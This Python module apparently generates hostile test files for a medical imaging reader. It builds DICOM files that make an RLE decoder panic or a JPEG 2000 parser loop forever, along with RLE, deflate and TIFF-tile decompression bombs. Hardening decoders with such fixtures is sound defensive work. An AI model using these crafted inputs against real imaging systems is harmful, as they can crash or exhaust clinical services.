"""Hostile DICOM files, built here: each makes a real decoder panic, loop forever or allocate without bound."""

from __future__ import annotations

import io
import struct
import zlib
from pathlib import Path

from pydicom.dataset import Dataset, FileMetaDataset
from pydicom.encaps import encapsulate
from pydicom.uid import UID, JPEG2000Lossless, RLELossless, generate_uid

CR = UID("1.2.840.10008.5.1.4.1.1.1")


def _cr(path: Path, syntax: UID, side: int, fragment: bytes, *, patient_id: str = "POISON-1") -> Path:
    meta = FileMetaDataset()
    meta.MediaStorageSOPClassUID, meta.MediaStorageSOPInstanceUID, meta.TransferSyntaxUID = CR, generate_uid(), syntax
    ds = Dataset()
    ds.file_meta = meta
    ds.SOPClassUID, ds.SOPInstanceUID = CR, meta.MediaStorageSOPInstanceUID
    ds.StudyInstanceUID, ds.SeriesInstanceUID, ds.Modality = generate_uid(), generate_uid(), "CR"
    ds.PatientID, ds.BodyPartExamined, ds.ViewPosition = patient_id, "CHEST", "PA"
    ds.Rows = ds.Columns = side
    ds.BitsAllocated, ds.BitsStored, ds.HighBit, ds.PixelRepresentation = 16, 12, 11, 0
    ds.SamplesPerPixel, ds.PhotometricInterpretation = 1, "MONOCHROME2"
    ds.PixelData = encapsulate([fragment])
    ds["PixelData"].VR = "OB"
    buffer = io.BytesIO()
    ds.save_as(buffer, enforce_file_format=True)
    path.write_bytes(buffer.getvalue())
    return path


def _rle_frame(high: bytes, low: bytes) -> bytes:
    return struct.pack("<16I", 2, 64, 64 + len(high), *([0] * 13)) + high + low


def _literal_runs(data: bytes) -> bytes:
    return b"".join(bytes([len(data[i:i + 128]) - 1]) + data[i:i + 128] for i in range(0, len(data), 128))


def rle_panic(path: Path, side: int = 256) -> Path:
    """RLE Lossless whose first segment overruns by one replicate run: pylibjpeg-rle panics (a BaseException)."""
    zeros = bytes(side * side)
    return _cr(path, RLELossless, side, _rle_frame(_literal_runs(zeros) + bytes([0x81, 1]), _literal_runs(zeros)))


def j2k_endless(path: Path, side: int = 256) -> Path:
    """JPEG 2000 whose box after the signature box has length zero: the J2K parameter parser never returns."""
    fragment = b"\x00\x00\x00\x0cjP  \r\n\x87\n" + b"\x00\x00\x00\x00" + b"ftypjp2 " + bytes(16)
    return _cr(path, JPEG2000Lossless, side, fragment)


def rle_bomb(path: Path, side: int = 16384) -> Path:
    """RLE Lossless of ``side`` x ``side`` 16-bit pixels (512 MiB decoded at 16384) in a few MiB of runs."""
    segment = bytes([0x81, 7]) * (side * side // 128)  # replicate runs of 128 bytes
    return _cr(path, RLELossless, side, _rle_frame(segment, segment))


def deflate_bomb(path: Path, inflated: int = 512 << 20) -> Path:
    """Deflated Explicit VR Little Endian CR whose private OB element of ``inflated`` zero bytes deflates to ~0.1 %.

    Written as a stream: neither the inflated dataset nor the element is ever held in memory here.
    """
    from pydicom.filebase import DicomBytesIO
    from pydicom.filewriter import write_dataset, write_file_meta_info
    from pydicom.uid import DeflatedExplicitVRLittleEndian

    meta = FileMetaDataset()
    meta.MediaStorageSOPClassUID, meta.MediaStorageSOPInstanceUID = CR, generate_uid()
    meta.TransferSyntaxUID = DeflatedExplicitVRLittleEndian
    ds = Dataset()
    ds.SOPClassUID, ds.SOPInstanceUID = CR, meta.MediaStorageSOPInstanceUID
    ds.StudyInstanceUID, ds.SeriesInstanceUID, ds.Modality, ds.PatientID = generate_uid(), generate_uid(), "CR", "B-1"
    ds.add_new(0x7FE10010, "LO", "CDS BOMB")  # the private creator of the element below
    header = DicomBytesIO()  # the inflated body is Explicit VR Little Endian (PS3.5 A.5)
    header.is_little_endian, header.is_implicit_VR = True, False
    write_dataset(header, ds)
    element = struct.pack("<HH2sHI", 0x7FE1, 0x1000, b"OB", 0, inflated)
    prefix = io.BytesIO()
    prefix.write(bytes(128) + b"DICM")
    write_file_meta_info(prefix, meta, enforce_standard=True)
    deflater = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    zeros = bytes(1 << 20)
    with path.open("wb") as out:
        out.write(prefix.getvalue())
        out.write(deflater.compress(header.getvalue() + element))
        for _ in range(inflated >> 20):
            out.write(deflater.compress(zeros))
        out.write(deflater.flush())
    return path


def tiff_tile_bomb(path: Path, side: int = 9216) -> Path:
    """A one-tile RGB TIFF whose deflate tile of ~0.2 MiB inflates to ``side`` x ``side`` x 3 bytes.

    243 MiB at 9216, just under the slide reader's cap on one segment; reading any region decodes the whole tile.
    """
    import numpy as np
    import tifffile

    deflater, zeros, chunks = zlib.compressobj(9), bytes(1 << 20), []
    for _ in range(side * side * 3 >> 20):
        chunks.append(deflater.compress(zeros))
    chunks.append(deflater.flush())
    with tifffile.TiffWriter(path) as tif:
        tif.write(iter([b"".join(chunks)]), shape=(side, side, 3), dtype=np.uint8, tile=(side, side),
                  compression="zlib", photometric="rgb")  # fmt: skip
    return path
